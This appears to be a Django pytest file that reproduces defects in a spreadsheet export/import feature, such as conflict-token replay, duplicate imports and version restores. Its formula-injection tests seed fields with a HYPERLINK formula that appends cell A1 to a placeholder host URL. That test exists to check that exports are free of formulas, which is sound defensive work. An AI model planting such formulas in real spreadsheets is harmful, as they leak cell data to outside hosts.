"""Review of the spreadsheet round trip (issue 4, point 5): each test shows a confirmed defect and fails
until it is fixed. Helpers and fixtures are those of the existing tableur tests."""

import io
from decimal import Decimal

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from tests.cast import BORDEAUX
from tests.livrables import test_tableur as gt1
from tests.livrables import test_tableur_gt2 as gt2
from tests.livrables import test_tableur_gt3 as gt3
from tests.livrables.test_tableur import groupe_rh  # noqa: F401 (fixture)
from tests.livrables.test_tableur_gt2 import element, livrable  # noqa: F401 (fixtures)
from tests.livrables.test_tableur_gt3 import ligne  # noqa: F401 (fixture)

pytestmark = pytest.mark.django_db


def _livrable_gt1(groupe):
    from livrables.actions import livrable_de

    return livrable_de(groupe, "GT1")


def _formules(wb):
    return [
        (ws.title, c.coordinate, c.value)
        for ws in wb.worksheets
        for row in ws.iter_rows()
        for c in row
        if c.data_type == "f"
    ]


# --- 1. Formula injection: user text beginning with « = » is written as a formula ---------------------------


def test_gt1_text_beginning_with_equals_is_exported_as_text_and_reimports(cast, territoire, groupe_rh, connecte):
    livrable = _livrable_gt1(groupe_rh)
    gt1.remplir(
        livrable,
        territoire,
        cast["dgs_bordeaux"],
        RH_PAIE={
            "exerce": True,
            "specificites": "=> voir la note du DGS",
            "sous_activites": '=HYPERLINK("http://exemple.invalid/?"&A1,"Cliquez ici")',
        },
    )
    livrable.refresh_from_db()
    version = livrable.version
    client = connecte(cast["dgs_bordeaux"])
    contenu = client.get(gt1.url(territoire, "xlsx")).content
    wb = load_workbook(io.BytesIO(contenu))
    assert _formules(wb) == []  # neither in the data sheet nor in the hidden sheet
    # The untouched export must re-import (today: « une formule sans valeur » on both cells, 400).
    f = io.BytesIO(contenu)
    f.name = "gt1.xlsx"
    response = client.post(gt1.url(territoire, "importer"), {"fichier": f})
    assert response.status_code == 302, (response.context or {}).get("erreurs")
    livrable.refresh_from_db()
    assert livrable.version == version


def test_gt2_member_text_is_not_a_formula_in_the_copilots_export(cast, territoire, livrable, connecte):
    from livrables.gt2.actions import do_ajouter_element

    membre = cast["membre_rh"]
    do_ajouter_element(
        livrable,
        membre,
        territoire.activites.get(code="RH-PAIE"),
        "risque",
        '=HYPERLINK("http://exemple.invalid","Détails")',
        membre.organisation,
    )
    wb = gt2.classeur(connecte(cast["copilote_rh_epci"]).get(gt2.url(territoire, "xlsx")))
    assert _formules(wb) == []


def test_gt3_pourquoi_beginning_with_equals_is_not_a_formula(cast, territoire, ligne, connecte):
    from livrables.gt3.actions import do_modifier_ligne

    do_modifier_ligne(ligne, cast["equipe_projet"], {"pourquoi": "=2+2 communes déjà engagées"})
    client = connecte(cast["equipe_projet"])
    wb = gt3.classeur(client.get(gt3.url(territoire, "xlsx")))
    assert _formules(wb) == []


# --- 2. A conflict choice applies to an app value the user never saw; the token can be replayed ----------------


def _conflit_gt1(cast, territoire, groupe_rh, connecte):
    livrable = _livrable_gt1(groupe_rh)
    gt1.remplir(livrable, territoire, cast["dgs_bordeaux"], RH_PAIE={"exerce": True, "specificites": "Avant"})
    client = connecte(cast["dgs_bordeaux"])
    wb = gt1.classeur(client.get(gt1.url(territoire, "xlsx")))
    gt1.remplir(livrable, territoire, cast["equipe_projet"], RH_PAIE={"exerce": True, "specificites": "App 1"})
    ws = wb.worksheets[0]
    ws.cell(gt1.rang(ws, "RH-PAIE"), 6).value = "Fichier"
    response = client.post(gt1.url(territoire, "importer"), {"fichier": gt1.sauver(wb)})
    assert response.status_code == 409
    [conflit] = response.context["conflits"]
    return livrable, client, response.context["jeton"], conflit


def test_conflict_choice_is_not_applied_to_an_app_value_changed_since_the_page(cast, territoire, groupe_rh, connecte):
    livrable, client, jeton, conflit = _conflit_gt1(cast, territoire, groupe_rh, connecte)
    # While the DGS reads the conflict page (showing « App 1 »), the project team writes « App 2 ».
    gt1.remplir(livrable, territoire, cast["equipe_projet"], RH_PAIE={"exerce": True, "specificites": "App 2"})
    response = client.post(gt1.url(territoire, "resoudre"), {"jeton": jeton, f"choix:{conflit.cle}": "fichier"})
    # « App 2 » was never shown: it must be presented as a conflict again, not overwritten.
    assert response.status_code == 409
    assert gt1.lignes(livrable)["RH-PAIE"].specificites == "App 2"
    # The page shows « App 2 » now, flagged; its fresh token settles it.
    [conflit] = response.context["conflits"]
    assert conflit.application == "App 2" and conflit.nouvelle_valeur
    assert "(nouvelle valeur)" in response.content.decode()
    response = client.post(
        gt1.url(territoire, "resoudre"), {"jeton": response.context["jeton"], f"choix:{conflit.cle}": "fichier"}
    )
    assert response.status_code == 302
    assert gt1.lignes(livrable)["RH-PAIE"].specificites == "Fichier"


def test_conflict_token_cannot_be_replayed_over_a_later_edit(cast, territoire, groupe_rh, connecte):
    livrable, client, jeton, conflit = _conflit_gt1(cast, territoire, groupe_rh, connecte)
    donnees = {"jeton": jeton, f"choix:{conflit.cle}": "fichier"}
    assert client.post(gt1.url(territoire, "resoudre"), donnees).status_code == 302
    gt1.remplir(
        livrable, territoire, cast["equipe_projet"], RH_PAIE={"exerce": True, "specificites": "Correction ultérieure"}
    )
    client.post(gt1.url(territoire, "resoudre"), donnees)  # the same form posted again (back button, replay)
    assert gt1.lignes(livrable)["RH-PAIE"].specificites == "Correction ultérieure"


def test_gt2_conflict_token_replay_does_not_add_the_items_twice(cast, territoire, livrable, element, connecte):
    from livrables.gt2.actions import do_reformuler_element

    client = connecte(cast["copilote_rh_epci"])
    wb = gt2.classeur(client.get(gt2.url(territoire, "xlsx")))
    do_reformuler_element(livrable, cast["consultant"], element, "Reformulé dans l'application")
    ws = wb.worksheets[0]
    ws.cell(gt2.rang(ws, f"E{element.pk}"), 5).value = "Reformulé dans le fichier"
    n = ws.max_row + 1
    ws.cell(n, 2).value, ws.cell(n, 4).value, ws.cell(n, 5).value = "RH-PAIE", "Risques", "Nouveau risque"
    response = client.post(gt2.url(territoire, "importer"), {"fichier": gt2.sauver(wb)})
    assert response.status_code == 409
    [conflit] = response.context["conflits"]
    donnees = {"jeton": response.context["jeton"], f"choix:{conflit.cle}": "application"}
    assert client.post(gt2.url(territoire, "resoudre"), donnees).status_code == 302
    client.post(gt2.url(territoire, "resoudre"), donnees)  # double submit
    assert [e.texte for e in gt2.visibles(livrable)].count("Nouveau risque") == 1


# --- 3. Importing the same filled file twice duplicates every added row (GT2, GT3) -----------------------------


def test_gt2_same_file_imported_twice_does_not_duplicate_additions(cast, territoire, livrable, element, connecte):
    client = connecte(cast["copilote_rh_epci"])
    wb = gt2.classeur(client.get(gt2.url(territoire, "xlsx")))
    ws = wb.worksheets[0]
    n = ws.max_row + 1
    ws.cell(n, 2).value, ws.cell(n, 4).value, ws.cell(n, 5).value = "RH-PAIE", "Risques", "Nouveau risque"
    assert client.post(gt2.url(territoire, "importer"), {"fichier": gt2.sauver(wb)}).status_code == 302
    # The DGS fixes a typo in the same file and imports it again.
    client.post(gt2.url(territoire, "importer"), {"fichier": gt2.sauver(wb)})
    assert [e.texte for e in gt2.visibles(livrable)].count("Nouveau risque") == 1


def test_gt3_same_file_imported_twice_does_not_duplicate_new_lines(cast, territoire, ligne, connecte):
    client = connecte(cast["equipe_projet"])
    wb = gt3.classeur(client.get(gt3.url(territoire, "xlsx")))
    ws = wb.worksheets[0]
    ws.cell(3, 2).value, ws.cell(3, gt3.POURQUOI).value = "RH-FORM", "Plan de formation commun"
    assert client.post(gt3.url(territoire, "importer"), {"fichier": gt3.sauver(wb)}).status_code == 302
    client.post(gt3.url(territoire, "importer"), {"fichier": gt3.sauver(wb)})
    assert ligne.livrable.lignes_mutualisables.filter(activite__code="RH-FORM").count() == 1


# --- 4. A restored version between export and import is silently overwritten -----------------------------


def test_restore_between_export_and_import_is_a_conflict(cast, territoire, groupe_rh, connecte):
    from validation.actions import do_restaurer

    livrable = _livrable_gt1(groupe_rh)
    gt1.remplir(livrable, territoire, cast["dgs_bordeaux"], RH_PAIE={"exerce": True, "specificites": "A"})
    livrable.refresh_from_db()
    version_a = livrable.version
    gt1.remplir(livrable, territoire, cast["dgs_bordeaux"], RH_PAIE={"exerce": True, "specificites": "B"})
    gt1.remplir(livrable, territoire, cast["dgs_bordeaux"], RH_PAIE={"exerce": True, "specificites": "C"})
    client = connecte(cast["dgs_bordeaux"])
    wb = gt1.classeur(client.get(gt1.url(territoire, "xlsx")))
    livrable.refresh_from_db()
    do_restaurer(livrable, cast["equipe_projet"], version_a)  # row version goes back to 2 (< 3 exported)
    assert gt1.lignes(livrable)["RH-PAIE"].specificites == "A"
    ws = wb.worksheets[0]
    ws.cell(gt1.rang(ws, "RH-PAIE"), 6).value = "F"
    response = client.post(gt1.url(territoire, "importer"), {"fichier": gt1.sauver(wb)})
    assert response.status_code == 409
    assert gt1.lignes(livrable)["RH-PAIE"].specificites == "A"


# --- 5. Sous-activités compared in two different canonical forms: spurious conflicts ------------------------


def test_line_endings_in_sous_activites_are_not_a_conflict(cast, territoire, groupe_rh, connecte):
    livrable = _livrable_gt1(groupe_rh)
    texte = "Bulletins\r\nDSN"  # as a browser's textarea sends it
    gt1.remplir(livrable, territoire, cast["dgs_bordeaux"], RH_PAIE={"exerce": True, "sous_activites": texte})
    client = connecte(cast["dgs_bordeaux"])
    wb = gt1.classeur(client.get(gt1.url(territoire, "xlsx")))
    # In the app, only the ETP changes.
    gt1.remplir(
        livrable,
        territoire,
        cast["equipe_projet"],
        RH_PAIE={"exerce": True, "etp": Decimal("2"), "sous_activites": texte},
    )
    ws = wb.worksheets[0]
    ws.cell(gt1.rang(ws, "RH-PAIE"), 5).value = "Bulletins\nDSN\nAttestations"
    response = client.post(gt1.url(territoire, "importer"), {"fichier": gt1.sauver(wb)})
    assert response.status_code == 302, [c.affichees for c in response.context["conflits"]]
    paie = gt1.lignes(livrable)["RH-PAIE"]
    assert paie.sous_activites == "Bulletins\nDSN\nAttestations" and paie.etp == Decimal("2.00")


# --- 6. The export ignores the payroll ETP the page prefills (issue point 1) ------------------------------


def test_export_prefills_etp_from_payroll_like_the_page(cast, territoire, groupe_rh, connecte, lot_courant):
    client = connecte(cast["dgs_bordeaux"])
    page = client.get(
        reverse("livrables:gt1_commune", kwargs={"code": territoire.code, "theme": "RH", "commune": BORDEAUX})
    )
    prerempli = {f.activite.code: f.initial.get("etp") for f in page.context["formset"]}
    assert prerempli["RH-PAIE"] == Decimal("3")  # the page shows the payroll's 3 ETP
    ws = gt1.classeur(client.get(gt1.url(territoire, "xlsx"))).worksheets[0]
    assert ws.cell(gt1.rang(ws, "RH-PAIE"), 8).value == 3


# --- Follow-ups of the review ---------------------------------------------------------------------------


def test_gt2_addition_already_present_is_said_after_the_import(cast, territoire, livrable, element, connecte):
    client = connecte(cast["copilote_rh_epci"])
    wb = gt2.classeur(client.get(gt2.url(territoire, "xlsx")))
    ws = wb.worksheets[0]
    n = ws.max_row + 1
    # The item already in the grid (fixture), written again with other spaces and case, and a new one.
    ws.cell(n, 2).value, ws.cell(n, 4).value, ws.cell(n, 5).value = "RH-PAIE", "Risques", "Nouveau risque"
    ws.cell(n + 1, 2).value, ws.cell(n + 1, 4).value = "RH-PAIE", element.get_quadrant_display()
    ws.cell(n + 1, 5).value = "  " + element.texte.upper() + " "
    response = client.post(gt2.url(territoire, "importer"), {"fichier": gt2.sauver(wb)}, follow=True)
    page = response.content.decode()
    assert f"Ligne {n + 1} : déjà présente, ignorée." in page and "1 élément ajouté" in page
    textes = [e.texte for e in gt2.visibles(livrable)]
    assert textes.count("Nouveau risque") == 1 and len(textes) == 2


def test_resolve_refuses_an_activity_gone_from_the_theme_since_the_conflict_page(cast, territoire, groupe_rh, connecte):
    livrable, client, jeton, conflit = _conflit_gt1(cast, territoire, groupe_rh, connecte)
    territoire.activites.filter(code="RH-PAIE").update(theme="FIN")  # the referential was edited meanwhile
    response = client.post(gt1.url(territoire, "resoudre"), {"jeton": jeton, f"choix:{conflit.cle}": "fichier"})
    assert response.status_code == 400
    assert any(
        "n'est plus dans le référentiel de ce thème : réimportez le fichier" in e for e in response.context["erreurs"]
    )
    assert gt1.lignes(livrable)["RH-PAIE"].specificites == "App 1"


def test_gt3_resolve_refuses_a_commune_no_longer_member_since_the_conflict_page(cast, territoire, ligne, connecte):
    from livrables.gt3.actions import do_consensus
    from tests.cast import MERIGNAC

    client = connecte(cast["copilote_rh_epci"])
    wb = gt3.classeur(client.get(gt3.url(territoire, "xlsx")))
    do_consensus(ligne, cast["consultant"], 3, "3")
    wb.worksheets[0].cell(2, gt3.QUALIF).value = 1
    response = client.post(gt3.url(territoire, "importer"), {"fichier": gt3.sauver(wb)})
    assert response.status_code == 409
    [conflit] = response.context["conflits"]
    territoire.organisations.filter(code=MERIGNAC).update(membre=False)
    response = client.post(
        gt3.url(territoire, "resoudre"), {"jeton": response.context["jeton"], f"choix:{conflit.cle}": "fichier"}
    )
    assert response.status_code == 400
    assert any("n'est plus membre du territoire" in e for e in response.context["erreurs"])
    assert gt3.relire(ligne).qualification == 3


def test_gt3_line_deleted_since_the_conflict_page_is_reported(cast, territoire, ligne, connecte):
    client = connecte(cast["copilote_rh_epci"])
    wb = gt3.classeur(client.get(gt3.url(territoire, "xlsx")))
    from livrables.gt3.actions import do_consensus

    do_consensus(ligne, cast["consultant"], 3, "3")
    wb.worksheets[0].cell(2, gt3.QUALIF).value = 1
    response = client.post(gt3.url(territoire, "importer"), {"fichier": gt3.sauver(wb)})
    assert response.status_code == 409
    [conflit] = response.context["conflits"]
    livrable = ligne.livrable
    ligne.delete()
    response = client.post(
        gt3.url(territoire, "resoudre"), {"jeton": response.context["jeton"], f"choix:{conflit.cle}": "fichier"}
    )
    assert response.status_code == 400
    assert any("ligne vide pour l'ajouter de nouveau" in e for e in response.context["erreurs"])
    assert not livrable.lignes_mutualisables.exists()


def test_export_prefill_is_kept_on_import_and_hidden_from_who_may_not_fill(
    cast, territoire, groupe_rh, connecte, lot_courant
):
    livrable = _livrable_gt1(groupe_rh)
    # A member of the group who may not fill Bordeaux's list reads the export without its payroll.
    ws = gt1.classeur(connecte(cast["membre_rh"]).get(gt1.url(territoire, "xlsx"))).worksheets[0]
    assert ws.cell(gt1.rang(ws, "RH-PAIE"), 8).value is None
    # The DGS keeps the prefilled ETP: it becomes the commune's, the payroll's recorded with it.
    client = connecte(cast["dgs_bordeaux"])
    wb = gt1.classeur(client.get(gt1.url(territoire, "xlsx")))
    ws = wb.worksheets[0]
    ws.cell(gt1.rang(ws, "RH-PAIE"), 7).value = "oui"
    assert client.post(gt1.url(territoire, "importer"), {"fichier": gt1.sauver(wb)}).status_code == 302
    paie = gt1.lignes(livrable)["RH-PAIE"]
    assert paie.exerce is True and paie.etp == Decimal("3.00") and paie.etp_paie == Decimal("3.00")
